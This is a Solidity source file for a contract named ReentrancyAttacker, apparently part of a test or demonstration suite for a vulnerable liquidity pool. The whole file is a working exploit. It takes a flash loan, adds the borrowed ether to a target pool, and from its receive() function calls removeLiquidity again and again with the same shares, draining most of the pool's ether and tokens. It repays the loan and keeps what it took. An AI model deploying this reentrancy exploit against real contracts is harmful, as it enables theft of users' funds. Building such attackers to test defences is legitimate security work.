// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {Pool} from "./Pool.sol";

/// @notice Attacks any Pool: borrows as much ether as the pool holds value, adds it, and removes the same half of the pool `depth`
/// times from inside the receipt of its ether. Keeps the loot, ether and tokens, at its own address.
/// On a paused pool it reverts with EnforcedPause().
contract ReentrancyAttacker is IFlashBorrower {
    FlashLender public immutable LENDER;

    Pool private target;
    uint256 private shares;
    uint256 private left;

    event Looted(address indexed pool, uint256 etherLoot, uint256 tokenLoot);

    constructor(FlashLender lender) {
        LENDER = lender;
    }

    /// @dev Ether from the pool under attack: take again while any depth is left.
    receive() external payable {
        if (msg.sender != address(target) || left == 0) return;
        --left;
        target.removeLiquidity(shares);
    }

    /// @param depth how often the same shares are removed in all; 6 takes 98 % of the ether
    function attack(Pool pool, uint256 depth) external {
        uint256 etherBefore = address(this).balance;
        uint256 tokensBefore = pool.TOKEN().balanceOf(address(this));
        LENDER.flashLoan(this, LENDER.ETHER(), pool.reserves(), abi.encode(pool, depth));
        emit Looted(
            address(pool), address(this).balance - etherBefore, pool.TOKEN().balanceOf(address(this)) - tokensBefore
        );
    }

    function onFlashLoan(address, address, uint256 amount, bytes calldata data) external payable {
        require(msg.sender == address(LENDER));
        (Pool pool, uint256 depth) = abi.decode(data, (Pool, uint256));
        shares = pool.addLiquidity{value: amount}(0);
        (target, left) = (pool, depth - 1);
        pool.removeLiquidity(shares);
        delete target;
        (bool ok,) = address(LENDER).call{value: amount}("");
        require(ok);
    }
}
